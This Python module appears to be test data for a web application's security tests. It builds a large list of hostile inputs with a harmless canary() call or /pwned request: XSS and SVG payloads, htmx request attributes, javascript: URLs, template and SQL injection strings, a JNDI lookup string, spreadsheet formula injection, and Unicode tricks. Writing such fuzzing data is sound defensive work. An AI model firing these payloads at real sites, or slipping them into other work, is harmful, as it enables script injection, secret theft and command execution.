"""Hostile texts of our own (reliability S8, C01 to C03): markup, htmx, SVG, templates, addresses.

Whatever runs in a browser calls `canary()`; whatever makes htmx ask for something asks `/pwned`.
"""

from itertools import product
from typing import Final

CALL: Final = "canary()"
ASKED: Final = "/pwned"

_CORES: Final = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg/onload={CALL}>",
    f"<b hx-get={ASKED} hx-trigger=load>",
    f"<a href=javascript:{CALL}>x</a>",
)

_ELEMENTS: Final = (
    *_CORES,
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<ScRiPt >{CALL}</ScRiPt >",
    f"<script/x>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "<script src=//x.test/x.js></script>",
    "<script src=data:,canary()></script>",
    f"<script type=module>{CALL}</script>",
    f"<<script>{CALL}//<</script>",
    f"<script>{CALL}",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href=data:,{CALL} />",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{CALL}>",
    f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>",
    f"<svg><foreignObject><body onload={CALL}></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml,x#x>",
    f"<svg><title><img src=x onerror={CALL}></title></svg>",
    f"<svg><desc><script>{CALL}</script></desc></svg>",
    f"<math><maction xlink:href=javascript:{CALL}>x",
    f"<math href=javascript:{CALL}>x</math>",
    f"<body onload={CALL}>",
    f"<body background=javascript:{CALL}>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
    f"<frameset onload={CALL}>",
    f"<object data=javascript:{CALL}>",
    f"<embed src=javascript:{CALL}>",
    f"<video onerror={CALL}><source></video>",
    f"<video poster=x src=x onerror={CALL}>",
    f"<audio src onerror={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>",
    f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<p onanimationstart={CALL} style=animation-name:toast-away>",
    f"<p tabindex=0 autofocus onfocus={CALL}>x",
    f"<p contenteditable onbeforeinput={CALL}>x",
    f"<p onpointerover={CALL}>x</p>",
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<form><button formaction=javascript:{CALL}>x",
    f"<form id=x></form><button form=x formaction=javascript:{CALL}>x",
    f"<isindex type=image src=x onerror={CALL}>",
    f"<link rel=stylesheet href=javascript:{CALL}>",
    f"<link rel=import href=data:text/html,{CALL}>",
    f"<link rel=preload as=script href=x onerror={CALL}>",
    "<meta http-equiv=refresh content=0;url=/pwned>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
    "<base href=//x.test/>",
    f"<table background=javascript:{CALL}><td>x",
    f"<style>@import 'javascript:{CALL}';</style>",
    "<style>*{display:none}</style>",
    f"<style onload={CALL}></style>",
    f"<x style=behavior:url(#default#time2) onbegin={CALL}>",
    f"<xss onclick={CALL} autofocus tabindex=1>x",
    f"<template shadowrootmode=open><img src=x onerror={CALL}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'>",
    f"<plaintext><img src=x onerror={CALL}>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<?xml version=1?><img src=x onerror={CALL}>",
    f"<!DOCTYPE x [<!ENTITY e '{CALL}'>]><x>&e;</x>",
    f"</p><img src=x onerror={CALL}><p>",
    f"<img src=x onerror={CALL}//",
    f"<img\tsrc=x\tonerror={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f"<img src='x'onerror='{CALL}'>",
    "<img src=x onerror=&#99;anary&#40;&#41;>",
    "<img src=x onerror=\\u0063anary()>",
    f"<img src=x onerror=window['{CALL}']>",
    "<img src=x onerror=eval(atob('Y2FuYXJ5KCk='))>",
    f"<img srcset=x onerror={CALL}>",
    f"<picture><source srcset=x><img onerror={CALL}></picture>",
    f"<image src=x onerror={CALL}>",
    f"<dialog open onclose={CALL}><form method=dialog><button autofocus>x",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<svg></p><style><a id='</style><img src=x onerror={CALL}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
    f"<select><noembed></select><script>{CALL}</script>",
    f"<table><a href=javascript:{CALL}><td>x",
    "<portal src=/pwned>",
    "<fencedframe src=/pwned>",
    "<object type=text/html data=/pwned>",
    "<img src=/pwned>",
    "<a href=/pwned ping=/pwned>x</a>",
    "<a href=//x.test target=_top>Your session has ended</a>",
    "<form action=//x.test><input name=password>",
    "<h1>Site closed</h1>",
    "<b>bold</b>",
    "<br><br><br>",
    "</main></body></html>",
)

_ENDS: Final = (
    '">', "'>", "`>", ">", '"/>', "</title>", "</textarea>", "</script>", "</style>", "</option>",
    "</select>", "</svg>", "</text>", "</td></tr></table>", "</button>", "</template>", "-->",
    "]]>", "</a>", '\\">', "&quot;>", "%22%3E", "목표 ",
)  # fmt: skip

_QUOTES: Final = ('"', "'", "`", "&quot;", "&#34;", '\\"')
_ATTRIBUTES: Final = (
    f"onmouseover={CALL}",
    f"onfocus={CALL} autofocus",
    f"onclick={CALL}",
    f"style=x:expression({CALL})",
    f"hx-get={ASKED} hx-trigger=load",
    f"data-hx-post={ASKED} data-hx-trigger=load",
    f"hx-on::load={CALL}",
    f"hx-on:click={CALL}",
    f"hx-vals=js:{{x:{CALL}}}",
    "hx-swap-oob=true id=content",
    "id=toasts",
    f"href=javascript:{CALL}",
    f"formaction=javascript:{CALL}",
    "class=dialog popover",
)

_VERBS: Final = ("get", "post", "put", "patch", "delete")
_TRIGGERS: Final = ("load", "revealed", "intersect", "every 1s", "load delay:1ms")
_HTMX: Final = (
    *(f'<p hx-{verb}="{ASKED}" hx-trigger="load">x</p>' for verb in _VERBS),
    *(f'<p data-hx-{verb}="{ASKED}" data-hx-trigger="load">x</p>' for verb in _VERBS),
    *(f'<p hx-get="{ASKED}" hx-trigger="{when}">x</p>' for when in _TRIGGERS),
    f'<div hx-get="/accounts/delete/{ASKED}" hx-trigger="load">',
    f'<p hx-on:htmx:load="{CALL}">',
    f'<p hx-on::after-settle="{CALL}">',
    f'<p hx-on--load="{CALL}">',
    f'<p data-hx-on:click="{CALL}">x</p>',
    f"<p hx-get={ASKED} hx-vals='js:{{\"x\":{CALL}}}' hx-trigger=load>",
    f"<p hx-get={ASKED} hx-headers='js:{{\"x\":{CALL}}}' hx-trigger=load>",
    f'<p hx-get={ASKED} hx-trigger="load[{CALL}]">',
    f'<p hx-get={ASKED} hx-target="body" hx-trigger=load>',
    f'<p hx-get={ASKED} hx-select-oob="#toasts" hx-trigger=load>',
    f'<p hx-disinherit="*" hx-get={ASKED} hx-trigger=load>',
    '<div id="content" hx-swap-oob="true">gone</div>',
    '<div hx-swap-oob="outerHTML:#content">gone</div>',
    '<template><div id="toasts" hx-swap-oob="beforeend">x</div></template>',
    '<a hx-boost="true" href="/pwned">x</a>',
    '<div hx-ext="sse" sse-connect="/pwned">',
    '<div hx-ext="ws" ws-connect="/pwned">',
    '<div hx-history-elt hx-history="true">',
    '<form hx-post="/pwned" hx-trigger="load"><input name=x></form>',
    '<p hx-params="*" hx-include="[name=csrfmiddlewaretoken]" hx-post="/pwned" hx-trigger=load>',
    '<p hx-push-url="//x.test" hx-get="/pwned" hx-trigger=load>',
    '<p hx-encoding="multipart/form-data" hx-post="/pwned" hx-trigger="load">',
    '<p hx-confirm="x" hx-delete="/pwned" hx-trigger="load">',
    '<p hx-prompt="x" hx-get="/pwned" hx-trigger="load">',
)

_ADDRESSES: Final = (
    *(f"{start}{CALL}" for start in (
        "javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "\x01javascript:",
        "javascript&colon;", "javascript&#58;", "&#106;avascript:", "javascript://x.test/%0a",
        "javascript:void ", "jav&#x09;ascript:", "vbscript:", "livescript:", "feed:javascript:",
        "view-source:javascript:", "data:text/html,", "data:text/html;base64,",
        "data:image/svg+xml,<svg/onload=", "blob:", "filesystem:", "about:blank#", "jar:",
    )),
    *(f"[x]({start}{CALL})" for start in ("javascript:", "JAVASCRIPT:", "data:text/html,", " ")),
    *(f"![x]({start}{CALL})" for start in ("javascript:", 'x"onerror="', "x' onerror='")),
    f"<javascript:{CALL}>",
    f"[x]: javascript:{CALL}",
    f"[x][x]\u2003[x]: javascript:{CALL}",
    f'[x](http://x.test "onclick={CALL}")',
    f"`<img src=x onerror={CALL}>`",
    f"~~~<script>{CALL}</script>~~~",
    f"|<img src=x onerror={CALL}>|x|",
    "//x.test/x", "\\\\x.test\\x", "https:x.test", "http://a.test@x.test/", "/\\x.test",
)  # fmt: skip

_TEMPLATES: Final = (
    "{{7*7}}", "{{ 7|add:'42' }}", "{{ settings.SECRET_KEY }}", "{{ request.user.password }}",
    "{% debug %}", "{% load static %}", "{% include '/etc/passwd' %}", "{% autoescape off %}",
    "{% endblock %}", "{# x #}", "{% csrf_token %}", "{{ x|safe }}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('canary()')()}}", "[[7*7]]", "@(7*7)", "*{7*7}", "~{7*7}", "$(id)",
    "`id`", "%(x)s", "%s%s%s%n", "{0.__class__}", "{self.__init__.__globals__}", "%%", "{}",
    "<?php phpinfo()?>", "<!--#exec cmd=id-->", "${jndi:ldap://x.test/x}", "' OR 1=1 --", "'; DROP",
)  # fmt: skip

_ENCODED: Final = (
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{CALL}",
    f"&#60;script&#62;{CALL}",
    f"&#x3c;img src=x onerror={CALL}&#x3e;",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"\\u003cscript\\u003e{CALL}",
    f"\\x3cscript\\x3e{CALL}",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"%253Cscript%253E{CALL}",
    f"+ADw-script+AD4-{CALL}",
    f"\u00bcscript\u00be{CALL}",
    f"<\u200bscript>{CALL}</script>",
    f"<scr\u00adipt>{CALL}</script>",
    f"<\u017fcript>{CALL}</\u017fcript>",
    f"<scr\u0131pt>{CALL}</script>",
    f"\u202e<script>{CALL}</script>",
    f"\u2066<img src=x onerror={CALL}>\u2069",
    "\u202egnp.exe\u202c",
    "\u200f\u200e\u2068x",
    "\ufeff<b>x</b>",
    "\x1b[31m<b>x</b>",
    "\x7f<b>x</b>",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A<b>",
    "👩‍👩‍👧‍👦<b>",
)

_OF_SCRIPTS: Final = (
    f'"}}];{CALL};//', f"';{CALL};//", f"\\';{CALL};//", f"*/{CALL}/*", f"</script>{CALL}",
    f"<!--<script>{CALL}", f"${{{CALL}}}", '"__proto__":{"x":1}', f"x\\\\\";{CALL}//",
    f"</style><script>{CALL}", f"x;}}body{{background:url({ASKED})", "}</style>x{", "/*</style>",
    "url(javascript:canary())", "expression(canary())", "@import '//x.test'",
)  # fmt: skip

_CLOBBERING: Final = tuple(
    f"<{tag} {attribute}={name}>"
    for tag, attribute, name in product(
        ("img", "form", "a"), ("id", "name"), ("toasts", "body", "getElementById", "htmx", "cookie")
    )
)

_SHEETS: Final = (
    '=HYPERLINK("http://x.test","x")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", " =1+1",
    "＝1+1",     "=cmd|' /C calc'!A0", '=WEBSERVICE("http://x.test")', "=IMPORTXML(\"http://x.test\")",
    "|=1", ";=1", '"=1"', "'=1", "%0A=1",
)  # fmt: skip

_CHAT: Final = (
    "<!channel>", "<!here|x>", "<@U123>", "<#C123>", "<http://x.test|Your goal>", "@everyone",
    "*bold* _x_ ~x~", "```x```", ":skull:", "<!subteam^S1>", "<mailto:a@x.test|x>",
)  # fmt: skip

_WIDE: Final = {code: code + 0xFEE0 for code in range(0x21, 0x7F)}  # the full-width forms


def _payloads() -> tuple[str, ...]:
    found = [
        *_ELEMENTS,
        *(end + core for end, core in product(_ENDS, _CORES)),
        *(f"{q} {attribute} x={q}" for q, attribute in product(_QUOTES, _ATTRIBUTES)),
        *_HTMX,
        *_ADDRESSES,
        *_TEMPLATES,
        *_ENCODED,
        *_OF_SCRIPTS,
        *_CLOBBERING,
        *_SHEETS,
        *_CHAT,
        *(text.translate(_WIDE) for text in _ELEMENTS[:30]),
    ]
    return tuple(dict.fromkeys(found))


PAYLOADS: Final = _payloads()
"""Each text once, in an order that does not change; none breaks a line."""
